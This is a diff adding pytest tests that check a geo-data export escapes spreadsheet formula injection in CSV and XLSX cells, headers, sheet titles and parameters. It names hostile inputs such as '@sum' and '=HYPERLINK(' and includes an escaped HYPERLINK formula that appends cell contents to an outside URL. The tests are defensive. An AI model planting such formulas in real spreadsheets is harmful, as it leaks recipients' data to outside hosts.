@@ -16,7 +16,10 @@ from shapely.geometry import MultiPolygon, Point, Polygon
 
 import geo
 from geo import export
+from geo.cells import spreadsheet_text, xlsx_text
 from geo.i18n import column_label
+from tests import hostile
+from tests.test_cells import _INVISIBLE, csv_rows, workbook_cells
 
 RISKY_NAMES = ['=HYPERLINK("x")', "+86 772", "-老旧小区", "@sum", "\tTab", "\rCR"]
 
@@ -335,3 +338,64 @@ def test_geojson_keeps_date_like_text_as_text(tmp_path):
     frame = plan_points().assign(note=pd.Series(["2024-03-01", "10:30:00", None], dtype="string"))
     back = export.read_geojson(export.to_geojson(frame, tmp_path / "d.geojson"))
     assert_geodataframe_equal(back, frame[[c for c in frame.columns if c != "geometry"] + ["geometry"]])
+
+
+# --------------------------------------------------------------------------- hostile text through every spreadsheet door
+
+
+def hostile_frame() -> pd.DataFrame:
+    """Every hostile string as a name, negative numbers, and a user column headed by each formula."""
+    names = hostile.ALL + ["柳东社区", "#N/A"]
+    frame = pd.DataFrame({
+        "community_id": pd.Series([f"C{i:03d}" for i in range(len(names))], dtype="string"),
+        "name": pd.Series(names, dtype="string"),
+        "population": pd.Series([-i for i in range(len(names))], dtype="Int64"),
+        "eligible": pd.Series([i % 2 == 0 for i in range(len(names))], dtype="boolean"),
+    })
+    for header in hostile.FORMULA + hostile.TEXT[:2]:
+        frame[header] = pd.Series(names[::-1], dtype=object)
+    return frame
+
+
+def test_csv_export_of_hostile_text(tmp_path):
+    frame = hostile_frame()
+    path = export.export(frame, tmp_path / "plan.csv")  # the app's download calls export()
+    rows = csv_rows(path.read_bytes())
+    hostile_headers = hostile.FORMULA + hostile.TEXT[:2]
+    assert rows[0] == ["小区编号", "名称", "人口", column_label("eligible", "zh")] + [spreadsheet_text(h) for h in hostile_headers]
+    assert rows[0][4 + hostile.FORMULA.index(hostile.FORMULA[6])].startswith("'=HYPERLINK(")
+    body = rows[1:]
+    assert [row[1] for row in body] == [spreadsheet_text(name) for name in frame["name"]]
+    assert [row[1] for row in body][-2:] == ["柳东社区", "#N/A"]
+    assert [row[2] for row in body] == [-float(i) for i in range(len(frame))]  # numbers stay numbers
+    assert [row[3] for row in body][:2] == ["是", "否"]
+    assert [row[4] for row in body] == [spreadsheet_text(name) for name in frame["name"][::-1]]
+    for name, written in zip(frame["name"], (row[1] for row in body)):
+        if name not in hostile.FORMULA and name not in hostile.TEXT[:2]:
+            assert written == name  # template, markup and Markdown text is not a formula: unchanged
+
+
+def test_xlsx_export_of_hostile_text(tmp_path):
+    frame = hostile_frame()
+    sheet_names = hostile.FORMULA + hostile.TEXT[:2]
+    parameters = {**{name: name for name in hostile.ALL}, "program": {"=1+2": "@SUM(9)", "-x": -5}}
+    path = export.export(dict.fromkeys(sheet_names, frame), tmp_path / "plan.xlsx", parameters=parameters)
+    sheets = workbook_cells(path.read_bytes())  # fails on any formula or error cell
+
+    titles = list(sheets)
+    assert len(titles) == len(sheet_names) + 1 and titles[-1] == "参数"
+    assert not any(ch in title for title in titles for ch in _INVISIBLE + ["\t", "\r", "\n"])
+    assert titles[0] == "=1+2" and titles[6].startswith("=HYPERLINK(") and titles[-3:-1] == ["小区名称", "右到左"]
+
+    for title in titles[:-1]:
+        rows = sheets[title]
+        assert rows[0] == ["小区编号", "名称", "人口", column_label("eligible", "zh")] + [xlsx_text(h) for h in sheet_names]
+        assert [row[1] for row in rows[1:]] == [xlsx_text(name) for name in frame["name"]]
+        assert [row[2] for row in rows[1:]] == [-i for i in range(len(frame))]
+    assert sheets["=1+2"][1 + hostile.ALL.index(hostile.FORMULA[6])][1] == (
+        "'=HYPERLINK(\"" + hostile.OUTSIDE_URL + "?d=\"&C2,\"详情\")")
+
+    written = {row[0]: row[1] for row in sheets["参数"][1:]}
+    expected = {xlsx_text(name): xlsx_text(name) for name in hostile.ALL}
+    expected.update({"program.=1+2": "program.=1+2", "program.-x": "program.-x"})
+    assert {key: written[key] for key in expected} == {**expected, "program.=1+2": "'@SUM(9)", "program.-x": -5}
